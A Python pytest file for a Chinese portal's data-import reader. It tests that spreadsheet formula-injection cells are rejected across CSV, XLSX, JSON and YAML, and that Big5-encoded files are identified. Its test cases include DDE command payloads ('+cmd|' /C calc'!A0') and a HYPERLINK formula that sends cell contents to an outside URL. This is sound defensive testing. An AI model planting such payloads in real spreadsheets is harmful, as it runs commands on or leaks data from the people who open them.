"""Cells a spreadsheet would run as formulas are refused alike in every format; Big5 files are named."""

from __future__ import annotations

import io
import json

import pytest
from openpyxl import Workbook

from portal.ingest.readers import ReadError, read
from portal.ingest.templates import example_record
from portal.schemas import KINDS

POWERS, SERVICES = KINDS["powers"], KINDS["services"]
ADVICE = "电子表格软件会把它当作公式运行：请删去开头的“{c}”，或在前面加上文字（列表可用“1.”或“·”，国际区号可写作“0086”）"


@pytest.fixture(autouse=True)
def _context(city_app):
    """Messages are rendered in the app's default locale (Simplified Chinese)."""
    with city_app.app_context():
        yield


def refused(filename: str, data: bytes, kind=POWERS) -> ReadError:
    """The ReadError reading `data` raises (failing the test if it reads)."""
    with pytest.raises(ReadError) as caught:
        read(filename, data, kind)
    return caught.value


def csv_file(name: str) -> bytes:
    return ("事项编码,事项名称\nA-1," + ('"' + name.replace('"', '""') + '"') + "\n").encode()


def xlsx_file(name: str) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "权责清单"
    sheet.append(["事项编码", "事项名称"])
    sheet.append(["A-1", None])
    sheet["B2"].value = name
    sheet["B2"].data_type = "s"  # text, as Excel keeps a cell typed as '=1+1: never a formula here
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def json_file(name: str) -> bytes:
    return json.dumps([{"事项编码": "A-1", "事项名称": name}], ensure_ascii=False).encode()


def yaml_file(name: str) -> bytes:
    return ("- 事项编码: A-1\n  事项名称: " + json.dumps(name, ensure_ascii=False) + "\n").encode()


# (file name, builder, the row the name is on)
FORMATS = {"csv": ("a.csv", csv_file, 2), "xlsx": ("a.xlsx", xlsx_file, 2),
           "json": ("a.json", json_file, 1), "yaml": ("a.yaml", yaml_file, 1)}


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(("cell", "char"), [
    ('=HYPERLINK("http://example.com/?"&A1,"详情")', "="),
    ("+cmd|' /C calc'!A0", "+"),
    ("-2+3+cmd|' /C calc'!A0", "-"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "@"),
    ("  =1+1", "="),  # published trimmed, so leading spaces hide nothing
    ("- 受理", "-"),  # a list bullet: a spreadsheet computes it, and shows #NAME?
    ("+86 10 1234 5678", "+"),
    ("\t受理", "制表符"),
    ("\r\n=1+1", "回车符"),
])
def test_a_formula_is_refused_alike_in_every_format_naming_row_and_column(fmt, cell, char):
    filename, build, row = FORMATS[fmt]
    with pytest.raises(ReadError) as caught:
        read(filename, build(cell), POWERS)
    error = caught.value
    assert str(error) == f"第 {row} 行“事项名称”以“{char}”开头，" + ADVICE.format(c=char)
    assert (error.row, error.column) == (row, "事项名称")


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("cell", ["-3", "+1.5", "-1,234.50", "-5%", "-2.5e-3", "-", "--", "—", "1+1",
                                  "受理 - 审查 - 决定", "电话:+86 10 1234", "a@b.cn", ""])
def test_numbers_dashes_and_text_with_these_characters_inside_are_accepted(fmt, cell):
    filename, build, _ = FORMATS[fmt]
    sheet = read(filename, build(cell), POWERS)
    assert (sheet.rows[0][1]["事项名称"] or "") == (cell if fmt != "xlsx" or cell.strip() else "")


def test_a_formula_inside_a_table_cell_names_the_table_row_and_column():
    example = example_record(SERVICES)
    steps = example["办理流程"]
    steps[1] = {**steps[1], "环节名称": "=1+1"}
    cells = [json.dumps(v, ensure_ascii=False) if isinstance(v, list) else v for v in example.values()]
    data = (",".join(example) + "\n" + ",".join('"' + c.replace('"', '""') + '"' for c in cells) + "\n")
    for filename, body in (("a.csv", data.encode()),
                           ("a.json", json.dumps([example], ensure_ascii=False).encode())):
        with pytest.raises(ReadError) as caught:
            read(filename, body, SERVICES)
        row = 2 if filename == "a.csv" else 1
        assert str(caught.value) == (f"第 {row} 行“办理流程”第 2 项的“环节名称”以“=”开头，" + ADVICE.format(c="="))
        assert (caught.value.row, caught.value.column) == (row, "办理流程")


def test_a_formula_in_a_table_sheet_names_the_sheet():
    workbook = Workbook()
    main = workbook.active
    main.title = "办事指南"
    example = example_record(SERVICES)
    flat = [label for label, value in example.items() if not isinstance(value, list)]
    main.append(flat)
    main.append([example[label] for label in flat])
    for label in ("申请材料", "办理流程"):
        table = workbook.create_sheet(label)
        rows = example[label]
        table.append(["事项编码", *rows[0]])
        for entry in rows:
            table.append([example["事项编码"], *entry.values()])
    workbook["申请材料"]["B3"].value = "@SUM(1)"
    workbook["申请材料"]["B3"].data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(ReadError) as caught:
        read("a.xlsx", buffer.getvalue(), SERVICES)
    assert (caught.value.sheet, caught.value.row, caught.value.column) == ("申请材料", 3, "材料名称")
    assert str(caught.value).startswith("第 3 行“材料名称”以“@”开头")


# --- encodings that are not accepted -------------------------------------------------


BIG5_HEADER = "事項編碼,事項名稱,權力類型,實施主體"  # Traditional, as Big5 can only write it


def test_a_big5_csv_is_refused_as_big5_not_read_as_nonsense():
    data = (BIG5_HEADER + "\n99010000FG-XK-0001,企業投資項目核准,行政許可,99010000FG\n").encode("big5")
    assert data.decode("gb18030")  # GB18030 decodes it without complaint, into nonsense
    assert str(refused("a.csv", data)) == (
        "文件是 Big5（繁体中文）编码，无法读取：请另存为 UTF-8、带 BOM 的 UTF-8 或 GB18030（GBK）编码后再上传")
    for name, text in (("a.json", '[{"事項編碼": "A", "事項名稱": "許可"}]'), ("a.yaml", "- 事項編碼: A\n")):
        assert "Big5" in str(refused(name, text.encode("big5")))


def test_gbk_files_whose_headers_are_all_unknown_still_read():
    # Not Big5 either: the headers are reported as unknown columns, as before, by validation.
    data = "编号,名字\n1,许可\n".encode("gbk")
    assert read("a.csv", data, POWERS).headers == ["编号", "名字"]
